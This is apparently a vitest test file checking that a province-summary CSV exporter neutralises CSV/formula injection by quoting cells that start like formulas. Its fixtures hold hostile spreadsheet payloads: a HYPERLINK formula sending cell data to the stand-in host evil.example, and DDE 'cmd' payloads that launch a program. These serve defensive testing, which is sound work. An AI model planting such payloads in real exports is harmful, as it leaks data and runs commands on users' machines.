// The province summary CSV is opened in a spreadsheet: a name or an exception reason that starts like a
// formula must arrive as text (OWASP "CSV Injection": a leading single quote, the cell quoted), while
// numbers, negative ones included, stay numbers.
import { describe, expect, it } from 'vitest';
import { coverageFromFeatures } from '../../../src/core/model';
import { formulaSafe, parseCsv, readFormulaSafe } from '../../../src/core/report/csv';
import { provinceSummary, summaryToCsv } from '../../../src/core/report/province-summary';
import type { IssueReview, ReportIssue } from '../../../src/core/report/review';
import { box } from './helpers';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+cmd|' /C calc'!A0", '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', "'=already quoted", "''=twice",
];

describe('CSV cells are inert in a spreadsheet', () => {
  it.each(FORMULAS)('%j gets a leading quote, and is quoted', (v) => {
    expect(formulaSafe(v)).toBe(`'${v}`);
    expect(readFormulaSafe(formulaSafe(v))).toBe(v);
  });

  it.each(['-3.25', '+1', '12', '0.5', '-0', '1e-7', 'Xã Đông', "O'Neil", '', "'plain"])('%j is left as it is', (v) => {
    expect(formulaSafe(v)).toBe(v);
    expect(readFormulaSafe(v)).toBe(v);
  });

  it('the summary: hostile names and exception reasons arrive as text, numbers as numbers', () => {
    const c = coverageFromFeatures([
      box('10001', 'Xã =HYPERLINK("http://evil.example/?"&A1)', 106.0, 20.0, 106.02, 20.02, { fullName: '=HYPERLINK("http://evil.example/?"&A1,"x")', officialAreaKm2: 99 }),
      box('10002', 'Phường Tây Sơn', 106.02, 20.0, 106.04, 20.02, { fullName: "+cmd|' /C calc'!A0" }),
      box('10003', 'Xã Bắc', 106.04, 20.0, 106.06, 20.02, { fullName: '@SUM(A1:A9)' }),
    ]);
    const issues: ReportIssue[] = [{ id: 'x', kind: 'sliver', severity: 'warning', units: ['10002'], unitIds: ['10002'] }];
    const reviews = new Map<string, IssueReview>([['x', { status: 'exception', reason: '=1+1' }]]);
    const csv = summaryToCsv(provinceSummary(c, issues, reviews));
    const rows = parseCsv(csv).slice(1);
    expect(rows.map((r) => r[1])).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)"]);
    // The exceptions cell starts with the issue kind; each of its lines is "kind: reason".
    expect(rows[1]![8]).toBe('sliver: =1+1');
    // A difference of -99.x % is still a number for the spreadsheet.
    expect(rows[0]![5]).toMatch(/^-\d+\.\d\d$/);
    // No unquoted cell starts like a formula anywhere in the text.
    for (const line of csv.slice(1).split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
